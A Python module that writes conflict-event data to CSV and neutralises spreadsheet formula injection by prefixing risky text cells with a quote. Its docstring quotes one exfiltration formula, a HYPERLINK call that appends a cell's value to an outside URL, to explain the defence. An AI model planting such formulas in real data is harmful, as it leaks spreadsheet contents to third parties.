"""CSV: events, one row each, UTF-8, with latitude/longitude columns and no geometry column.

Why text cells are escaped: a CSV is opened in a spreadsheet, which runs a cell starting with `=`, `+`,
`-` or `@` (and, in some, a tab or carriage return before one) as a formula. Article titles, evidence,
actors and analysts' notes come from outside, so `=HYPERLINK("http://host/?"&A1)` in a news text would
leak the sheet or run a command. As OWASP advises, such text cells get a leading `'`, which spreadsheets
show as text. Only text columns are touched: a negative longitude in a float column stays a number.
`csv_formulas="raw"` (`conflictmap export --csv-formulas raw`) writes every cell as it is.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd

from geo.export.writers import DataJob

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def write(job: DataJob, path: Path) -> None:
    write_csv(job.frames["events"], path, escape_formulas=job.csv_formulas != "raw")


def neutralise(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, prefixed with a quote; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` with formula-leading cells of its text columns neutralised; numeric, boolean and date
    columns are left alone whatever they hold."""
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if pd.api.types.is_object_dtype(s.dtype) or isinstance(s.dtype, pd.StringDtype):
            out[col] = s.map(neutralise, na_action="ignore")
    return out


def write_csv(frame: gpd.GeoDataFrame, path: Path, *, escape_formulas: bool = True) -> None:
    """Plain UTF-8 CSV without a geometry column: latitude/longitude are the columns analysts expect."""
    table = pd.DataFrame(frame.drop(columns="geometry"))
    if escape_formulas:
        table = neutralise_formulas(table)
    table.to_csv(path, index=False, encoding="utf-8", lineterminator="\n")
